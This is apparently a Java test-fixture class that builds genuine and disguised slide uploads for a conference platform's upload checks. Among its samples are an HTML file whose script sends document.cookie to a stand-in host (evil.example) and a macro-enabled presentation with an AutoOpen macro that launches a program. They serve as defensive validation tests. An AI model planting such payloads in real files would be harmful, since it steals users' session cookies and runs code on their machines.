package de.podium.testsupport;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

import jakarta.json.JsonObject;

/**
 * Files as speakers send them, and disguised ones. The presentations are complete packages with the parts
 * PowerPoint and LibreOffice write (content types, relationships, a slide, master, layout, theme; ODF mimetype
 * stored first, manifest), built here because no office suite is installed on the build machines.
 */
public final class SlideFixtures {

    private SlideFixtures() {
    }

    public static final String PPTX_TYPE = "application/vnd.openxmlformats-officedocument.presentationml.presentation";
    public static final String ODP_TYPE = "application/vnd.oasis.opendocument.presentation";

    public static byte[] pdf() {
        return ("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
                + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    public static byte[] pptx() {
        return presentation("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", false);
    }

    /** A macro-enabled presentation (.pptm) renamed to .pptx: it carries code and is refused. */
    public static byte[] pptm() {
        return presentation("application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", true);
    }

    private static byte[] presentation(String mainType, boolean macros) {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
                <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
                <Default Extension="xml" ContentType="application/xml"/>
                <Override PartName="/ppt/presentation.xml" ContentType="%s"/>
                <Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>
                <Override PartName="/ppt/slideLayouts/slideLayout1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideLayout+xml"/>
                <Override PartName="/ppt/slideMasters/slideMaster1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideMaster+xml"/>
                <Override PartName="/ppt/theme/theme1.xml" ContentType="application/vnd.openxmlformats-officedocument.theme+xml"/>
                <Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>
                <Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>
                </Types>""".formatted(mainType));
        parts.put("_rels/.rels", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="ppt/presentation.xml"/>
                <Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>
                <Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties" Target="docProps/app.xml"/>
                </Relationships>""");
        parts.put("docProps/app.xml", "<?xml version=\"1.0\"?><Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\"><Application>Microsoft Office PowerPoint</Application><Slides>1</Slides></Properties>");
        parts.put("docProps/core.xml", "<?xml version=\"1.0\"?><cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>Masterplan Integration</dc:title></cp:coreProperties>");
        parts.put("ppt/presentation.xml", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <p:presentation xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main">
                <p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst>
                <p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst>
                <p:sldSz cx="12192000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/>
                </p:presentation>""");
        parts.put("ppt/_rels/presentation.xml.rels", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/slideMaster" Target="slideMasters/slideMaster1.xml"/>
                <Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/slide" Target="slides/slide1.xml"/>
                <Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/theme" Target="theme/theme1.xml"/>
                </Relationships>""");
        parts.put("ppt/slides/slide1.xml", "<?xml version=\"1.0\"?><p:sld xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id=\"1\" name=\"\"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/></p:spTree></p:cSld></p:sld>");
        parts.put("ppt/slides/_rels/slide1.xml.rels", "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/slideLayout\" Target=\"../slideLayouts/slideLayout1.xml\"/></Relationships>");
        parts.put("ppt/slideLayouts/slideLayout1.xml", "<?xml version=\"1.0\"?><p:sldLayout xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"><p:cSld/></p:sldLayout>");
        parts.put("ppt/slideMasters/slideMaster1.xml", "<?xml version=\"1.0\"?><p:sldMaster xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"><p:cSld/></p:sldMaster>");
        parts.put("ppt/theme/theme1.xml", "<?xml version=\"1.0\"?><a:theme xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" name=\"Office\"/>");
        if (macros) {
            parts.put("ppt/vbaProject.bin", "Attribute VB_Name = \"Module1\"\nSub AutoOpen()\nShell \"calc.exe\"\nEnd Sub");
        }
        return zip(parts, false);
    }

    public static byte[] odp() {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("mimetype", ODP_TYPE);
        parts.put("META-INF/manifest.xml", """
                <?xml version="1.0" encoding="UTF-8"?>
                <manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">
                 <manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.presentation"/>
                 <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
                 <manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/>
                 <manifest:file-entry manifest:full-path="meta.xml" manifest:media-type="text/xml"/>
                </manifest:manifest>""");
        parts.put("content.xml", """
                <?xml version="1.0" encoding="UTF-8"?>
                <office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">
                <office:body><office:presentation><draw:page draw:name="Folie 1"><draw:frame><draw:text-box><text:p>Masterplan Integration</text:p></draw:text-box></draw:frame></draw:page></office:presentation></office:body>
                </office:document-content>""");
        parts.put("styles.xml", "<?xml version=\"1.0\"?><office:document-styles xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" office:version=\"1.3\"/>");
        parts.put("meta.xml", "<?xml version=\"1.0\"?><office:document-meta xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" office:version=\"1.3\"><office:meta/></office:document-meta>");
        return zip(parts, true);
    }

    /** A Windows program: MZ header and PE signature, named like slides. */
    public static byte[] exe() {
        byte[] exe = new byte[1024];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[0x3c] = (byte) 0x80;
        exe[0x80] = 'P';
        exe[0x81] = 'E';
        return exe;
    }

    public static byte[] html() {
        return "<!DOCTYPE html><html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>"
                .getBytes(StandardCharsets.UTF_8);
    }

    /** A ZIP archive that is no presentation: documents and a program. */
    public static byte[] plainZip() {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", "<Types/>");
        parts.put("readme.txt", "Folien folgen");
        parts.put("setup.exe", "MZ");
        return zip(parts, false);
    }

    private static byte[] zip(Map<String, String> parts, boolean odfMimetypeStored) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, String> part : parts.entrySet()) {
                byte[] content = part.getValue().getBytes(StandardCharsets.UTF_8);
                ZipEntry entry = new ZipEntry(part.getKey());
                if (odfMimetypeStored && part.getKey().equals("mimetype")) {
                    entry.setMethod(ZipEntry.STORED);
                    entry.setSize(content.length);
                    CRC32 crc = new CRC32();
                    crc.update(content);
                    entry.setCrc(crc.getValue());
                }
                zip.putNextEntry(entry);
                zip.write(content);
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return bytes.toByteArray();
    }

    /** A camera photo: JPEG with an EXIF segment that holds a location. */
    public static byte[] jpegWithExif(int width, int height) throws IOException {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setColor(new Color(31, 78, 121));
        g.fillRect(0, 0, width, height);
        g.setColor(Color.WHITE);
        g.fillOval(width / 4, height / 4, width / 2, height / 2);
        g.dispose();
        ByteArrayOutputStream plain = new ByteArrayOutputStream();
        ImageIO.write(image, "jpeg", plain);
        byte[] jpeg = plain.toByteArray();
        byte[] payload = ("Exif\0\0MM\0*\0\0\0\bGPS 51.2277N 9.8610E Eschwege SECRET-CAMERA-SERIAL-4711")
                .getBytes(StandardCharsets.ISO_8859_1);
        ByteArrayOutputStream withExif = new ByteArrayOutputStream();
        withExif.write(jpeg, 0, 2);
        withExif.write(0xFF);
        withExif.write(0xE1);
        withExif.write((payload.length + 2) >> 8);
        withExif.write((payload.length + 2) & 0xFF);
        withExif.write(payload);
        withExif.write(jpeg, 2, jpeg.length - 2);
        return withExif.toByteArray();
    }

    public static byte[] gif() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(10, 10, BufferedImage.TYPE_INT_RGB), "gif", out);
        return out.toByteArray();
    }

    public static byte[] multipart(String boundary, String field, String filename, String contentType, byte[] content,
                            Map<String, String> fields) {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        fields.forEach((name, value) -> body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\""
                + name + "\"\r\n\r\n" + value + "\r\n").getBytes(StandardCharsets.UTF_8)));
        body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + field + "\"; filename=\""
                + filename + "\"\r\nContent-Type: " + contentType + "\r\n\r\n").getBytes(StandardCharsets.UTF_8));
        body.writeBytes(content);
        body.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return body.toByteArray();
    }

    public static long demoTalk(String titleStart) {
        return PodiumServer.get().get("/api/conferences/" + PodiumServer.DEMO_SLUG + "/agenda").send().json().getJsonArray("talks")
                .getValuesAs(JsonObject.class).stream().filter(t -> t.getString("title").startsWith(titleStart))
                .findFirst().orElseThrow().getJsonNumber("id").longValue();
    }

    /** A conference in the future with one placed talk; returns {slug, talkId}. */
    public static Object[] futureTalk(String title) {
        String slug = AgendaFixtures.conference("2031-06-12T09:00:00+02:00", "2031-06-12T18:00:00+02:00");
        long room = AgendaFixtures.room(slug, "Kreistagssaal", 120);
        long talk = AgendaFixtures.talk(slug, title, 45, 80, "referentin-" + System.nanoTime() + "@kreis.example");
        AgendaFixtures.place(slug, talk, room, "2031-06-12T10:00:00+02:00");
        return new Object[]{slug, talk};
    }

    public static int slideRows(long talk) throws Exception {
        try (Connection db = PodiumServer.connect();
             PreparedStatement q = db.prepareStatement("SELECT COUNT(*) FROM slide WHERE talk_id = ?")) {
            q.setLong(1, talk);
            try (ResultSet rs = q.executeQuery()) {
                rs.next();
                return rs.getInt(1);
            }
        }
    }
}
